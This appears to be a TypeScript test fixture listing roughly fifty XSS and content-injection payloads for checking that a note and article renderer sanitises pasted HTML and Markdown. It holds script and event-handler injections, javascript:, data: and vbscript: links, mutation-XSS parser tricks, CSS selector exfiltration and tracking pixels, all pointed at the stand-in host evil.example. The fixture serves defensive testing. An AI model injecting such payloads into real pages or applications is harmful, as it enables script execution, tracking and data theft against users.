/**
 * Hostile content: what a researcher may paste into a note or import as an article
 * from the web. Every payload, if it ever ran or loaded, would either set
 * `window.__pwned` or make a request to http://evil.example/ — so a test that
 * renders them all only has to check that global and the requests the page made.
 *
 * Plain strings, no DOM and no Node: used by end-to-end specs and unit tests alike.
 */

/** The global a payload sets when its script runs. */
export const PWNED_GLOBAL = '__pwned';

/** The origin every remote payload points at; no request may ever reach it. */
export const EVIL_ORIGIN = 'http://evil.example';

export interface HostileCase {
  /** What the payload tries. */
  name: string;
  payload: string;
}

const E = EVIL_ORIGIN;
const PWN = (tag: string): string => `window.${PWNED_GLOBAL}='${tag}'`;

export const HOSTILE_CASES: readonly HostileCase[] = [
  // Script elements
  { name: 'inline script', payload: `<script>${PWN('script')}</script>` },
  { name: 'remote script', payload: `<script src="${E}/script.js"></script>` },
  { name: 'split script tag', payload: `<scr<script>ipt>${PWN('split-script')}</scr</script>ipt>` },

  // Event handlers
  { name: 'img onerror', payload: `<img src=x onerror="${PWN('img-onerror')}">` },
  { name: 'img onerror, no quotes', payload: `<img src=x:x onerror=${PWN('img-onerror-bare')}>` },
  { name: 'svg onload', payload: `<svg onload="${PWN('svg-onload')}"><circle r="5"/></svg>` },
  { name: 'body onload', payload: `<body onload="${PWN('body-onload')}">` },
  { name: 'div onclick', payload: `<div onclick="${PWN('div-onclick')}">Click me</div>` },
  { name: 'input autofocus onfocus', payload: `<input autofocus onfocus="${PWN('onfocus-autofocus')}">` },
  { name: 'details ontoggle', payload: `<details open ontoggle="${PWN('ontoggle')}"><summary>More</summary>text</details>` },
  { name: 'custom element onmouseover', payload: `<x-note onmouseover="${PWN('onmouseover')}">Hover me</x-note>` },

  // Dangerous URL schemes, in HTML and in Markdown
  { name: 'javascript: link', payload: `<a href="javascript:${PWN('a-javascript')}">A javascript link</a>` },
  { name: 'javascript: link, mixed case', payload: `<a href="JaVaScRiPt:${PWN('a-javascript-case')}">Mixed case</a>` },
  { name: 'javascript: link, leading space and tab', payload: `<a href=" jav&#x09;ascript:${PWN('a-javascript-tab')}">Tab inside</a>` },
  { name: 'entity-encoded javascript: link', payload: `<a href="&#106;avascript:${PWN('a-entity')}">Entity link</a>` },
  { name: 'markdown javascript: link', payload: `[Markdown javascript link](javascript:alert(1)) and [another](javascript:${PWN('md-javascript')})` },
  { name: 'markdown entity-encoded javascript: link', payload: `[Entity markdown link](&#106;avascript:${PWN('md-entity')})` },
  { name: 'markdown autolink with javascript:', payload: `<javascript:${PWN('md-autolink')}>` },
  { name: 'markdown reference link to javascript:', payload: `[Reference link][evil]\n\n[evil]: javascript:${PWN('md-reference')}` },
  { name: 'data: link', payload: `<a href="data:text/html,<script>${PWN('a-data')}</script>">Data link</a>` },
  { name: 'markdown data: link', payload: `[Markdown data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0nZGF0YSc8L3NjcmlwdD4=)` },
  { name: 'vbscript: link', payload: `<a href="vbscript:msgbox('pwned')">VBScript link</a> [md vbscript](vbscript:msgbox(1))` },
  { name: 'svg xlink:href javascript:', payload: `<svg><a xlink:href="javascript:${PWN('svg-xlink')}"><text y="20">SVG link</text></a></svg>` },
  { name: 'button formaction javascript:', payload: `<button formaction="javascript:${PWN('formaction')}">Press</button>` },

  // Embedded documents and plugins
  { name: 'svg with script', payload: `<svg><script>${PWN('svg-script')}</script></svg>` },
  { name: 'iframe src', payload: `<iframe src="${E}/frame.html"></iframe>` },
  { name: 'iframe srcdoc', payload: `<iframe srcdoc="<script>parent.${PWNED_GLOBAL}='srcdoc'</script>"></iframe>` },
  { name: 'object data', payload: `<object data="${E}/object.swf"></object>` },
  { name: 'object data: html', payload: `<object data="data:text/html,<script>parent.${PWNED_GLOBAL}='object-data'</script>"></object>` },
  { name: 'embed src', payload: `<embed src="${E}/embed.swf">` },

  // Page-level takeovers
  { name: 'meta refresh', payload: `<meta http-equiv="refresh" content="0;url=${E}/refresh">` },
  { name: 'base href', payload: `<base href="${E}/">\n\n[A relative link](relative/path) and <a href="other">another</a>` },
  { name: 'form action', payload: `<form action="${E}/form" method="post"><input name="q" value="secret"><button>Send</button></form>` },

  // CSS exfiltration and remote styles
  { name: 'style @import', payload: `<style>@import url(${E}/import.css);</style>` },
  { name: 'style attribute background', payload: `<div style="background:url(${E}/background.png)">Styled</div>` },
  { name: 'style attribute selector exfiltration', payload: `<style>input[value^=s]{background:url(${E}/leak-s)}</style><input value="secret">` },
  { name: 'link stylesheet', payload: `<link rel="stylesheet" href="${E}/style.css"><link rel="prefetch" href="${E}/prefetch">` },

  // Remote media: a tracking pixel tells the world the note was opened
  { name: 'remote img', payload: `<img src="${E}/pixel.png" alt="pixel">` },
  { name: 'remote img srcset', payload: `<img srcset="${E}/srcset.png 1x" alt="srcset">` },
  { name: 'markdown remote image', payload: `![tracking pixel](${E}/md-image.png)` },
  { name: 'markdown image with javascript:', payload: `![x](javascript:${PWN('md-image-javascript')})` },
  { name: 'img data: svg with onload', payload: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${PWN('data-svg')}'/>">` },
  { name: 'video and audio', payload: `<video src="${E}/video.mp4" autoplay></video><audio src="${E}/audio.mp3" autoplay></audio>` },

  // Parser tricks (mutation XSS)
  { name: 'template content', payload: `<template><img src=x onerror="${PWN('template')}"></template>` },
  { name: 'noscript attribute breakout', payload: `<noscript><p title="</noscript><img src=x onerror=${PWN('noscript')}>"></p></noscript>` },
  { name: 'mathml style mXSS', payload: `<math><mtext><table><mglyph><style><img src=x onerror=${PWN('mxss-math')}></style></mglyph></table></mtext></math>` },
  { name: 'svg style mXSS', payload: `<svg></p><style><a id="</style><img src=1 onerror=${PWN('mxss-svg')}>">` },

  // Plain web links: allowed as links, but a click must never navigate the app
  { name: 'plain http link', payload: `<a href="${E}/plain">A plain web link</a> and <a href="${E}/ping" ping="${E}/ping-beacon">one with ping</a>` },
  { name: 'markdown http link', payload: `[A Markdown web link](${E}/md-link) and a bare one: ${E}/bare` },
  { name: 'protocol-relative link', payload: `[Protocol-relative](//evil.example/protocol-relative)` },
];

export const HOSTILE_PAYLOADS: string[] = HOSTILE_CASES.map((c) => c.payload);
